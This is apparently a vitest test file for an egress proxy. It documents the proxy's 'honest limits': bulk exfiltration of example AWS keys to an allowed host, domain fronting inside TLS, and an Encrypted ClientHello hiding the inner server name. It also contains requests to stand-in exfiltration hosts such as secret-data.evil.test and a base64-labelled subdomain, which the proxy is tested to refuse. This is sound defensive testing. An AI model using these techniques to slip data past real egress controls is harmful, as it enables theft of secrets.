import net from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { staticResolver, type Resolver } from '../../src/egress/resolver.js';
import {
  curl,
  getOver,
  NAMES,
  raw,
  startEnv,
  startUpstreams,
  tlsTunnel,
  type Upstreams,
} from './harness.js';
import { capture, withExtra } from './tls-hello.js';

// What the proxy does not stop, each shown, and the boundaries it does hold.
let up: Upstreams;
beforeAll(async () => {
  up = await startUpstreams();
});
afterAll(async () => {
  await up.close();
});

describe('egress proxy: honest limits', () => {
  it('does not stop exfiltration to an allowed host; it counts it', async () => {
    const env = await startEnv({ up });
    try {
      const secret = 'AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n'.repeat(2000);
      const r = await curl(env.proxy.url, [
        '--data-binary',
        secret,
        `http://app.test:${up.httpPort}/echo`,
      ]);
      expect(r.status).toBe(200);
      expect(JSON.parse(r.body)).toMatchObject({ bytes: secret.length });
      const ev = (await env.events()).find(
        (e) =>
          e['class_uid'] === 4002 && e['activity_name'] === 'Post' && e['traffic'] !== undefined,
      );
      expect(ev?.['traffic']).toMatchObject({ bytes_out: secret.length });
      expect(ev?.['status_code']).toBe('ALLOWED');
    } finally {
      await env.close();
    }
  });

  it('cannot see a Host header inside TLS: domain fronting within one allowed destination passes', async () => {
    const env = await startEnv({ up });
    try {
      const t = await tlsTunnel(env.proxy.port, 'secure.test', up.httpsPort, up.ca);
      // SNI and CONNECT say secure.test; the encrypted request asks for another virtual host.
      const seen = await new Promise<string>((resolve) => {
        let text = '';
        t.on('data', (d: Buffer) => {
          text += d.toString();
          if (text.includes(']')) resolve(text);
        });
        t.write('GET /headers HTTP/1.1\r\nHost: other.test\r\n\r\n');
      });
      expect(seen).toContain('"other.test"');
      t.destroy();
    } finally {
      await env.close();
    }
  });

  it('checks only the outer SNI of an Encrypted ClientHello; the inner name is not visible', async () => {
    const env = await startEnv({ up });
    try {
      const hello = withExtra(
        await capture({ servername: 'secure.test' }),
        0xfe0d,
        Buffer.alloc(64, 1),
      );
      const before = up.rawSockets.length;
      const s = net.connect(env.proxy.port, '127.0.0.1');
      s.on('error', () => undefined);
      s.write(`CONNECT secure.test:${up.httpsPort} HTTP/1.1\r\nHost: x\r\n\r\n`);
      s.write(hello);
      await new Promise((r) => setTimeout(r, 300));
      // The hello (with its encrypted part) was forwarded to the allowed destination.
      expect(up.rawSockets.length).toBe(before + 1);
      expect(up.rawSockets[before]!.bytesRead).toBe(hello.length);
      s.destroy();
    } finally {
      await env.close();
    }
  });

  it('refuses tunnels to an https scope restricted to a path (the path is inside TLS)', async () => {
    const env = await startEnv({
      up,
      scopes: (u) => [
        `https://secure.test:${u.httpsPort}/v1`,
        `https://127.0.0.1:${u.httpsPort}/v1`,
      ],
    });
    try {
      const r = await raw(
        env.proxy.port,
        `CONNECT secure.test:${up.httpsPort} HTTP/1.1\r\nHost: x\r\n\r\n`,
      );
      expect(r.text).toMatch(/^HTTP\/1\.1 403 [\s\S]*code=NOT_GRANTED/);
      expect(r.text).toMatch(/granted only for some paths/);
    } finally {
      await env.close();
    }
  });

  it('never resolves a name the manifest does not grant (no DNS lookups to leak through)', async () => {
    const asked: string[] = [];
    const inner = staticResolver(NAMES);
    const recording: Resolver = {
      resolve: (h) => {
        asked.push(h);
        return inner.resolve(h);
      },
    };
    const env = await startEnv({ up, resolver: recording });
    try {
      expect((await curl(env.proxy.url, ['http://secret-data.evil.test/'])).status).toBe(403);
      const c = await raw(
        env.proxy.port,
        'CONNECT c2VjcmV0.evil.test:443 HTTP/1.1\r\nHost: x\r\n\r\n',
      );
      expect(c.text).toMatch(/^HTTP\/1\.1 403/);
      expect(asked).toEqual([]);
      expect((await curl(env.proxy.url, [`http://app.test:${up.httpPort}/`])).status).toBe(200);
      expect(asked).toEqual(['app.test']);
    } finally {
      await env.close();
    }
  });

  it('denies a granted name that does not resolve, and records a tunnel whose upstream is closed', async () => {
    const closed = net.createServer();
    await new Promise<void>((r) => closed.listen(0, '127.0.0.1', r));
    const closedPort = (closed.address() as net.AddressInfo).port;
    await new Promise<void>((r) => closed.close(() => r()));
    const env = await startEnv({
      up,
      scopes: () => ['http://nxdomain.test', `https://127.0.0.1:${closedPort}`],
    });
    try {
      const r = await curl(env.proxy.url, ['http://nxdomain.test/']);
      expect(r.status).toBe(403);
      expect(r.headers).toMatch(/rule=resolve; code=NET_RESOLVE_FAILED/);
      const s = net.connect(env.proxy.port, '127.0.0.1');
      s.on('error', () => undefined);
      s.write(`CONNECT 127.0.0.1:${closedPort} HTTP/1.1\r\nHost: x\r\n\r\n`);
      s.write(await capture({ servername: '' }));
      s.resume();
      await new Promise<void>((resolve) => s.on('close', () => resolve()));
      const fail = (await env.events()).find((e) => e['activity_name'] === 'Fail');
      expect(fail).toMatchObject({ status_code: 'NET_UPSTREAM_FAILED' });
      expect(String(fail?.['status_detail'])).toMatch(/ECONNREFUSED/);
    } finally {
      await env.close();
    }
  });

  it('keeps established tunnels of other destinations when one is refused', async () => {
    const env = await startEnv({ up });
    try {
      const t = await tlsTunnel(env.proxy.port, 'secure.test', up.httpsPort, up.ca);
      expect(
        (await raw(env.proxy.port, 'CONNECT evil.test:443 HTTP/1.1\r\nHost: x\r\n\r\n')).text,
      ).toMatch(/403/);
      expect(await getOver(t)).toMatch(/200/);
      t.destroy();
    } finally {
      await env.close();
    }
  });
});
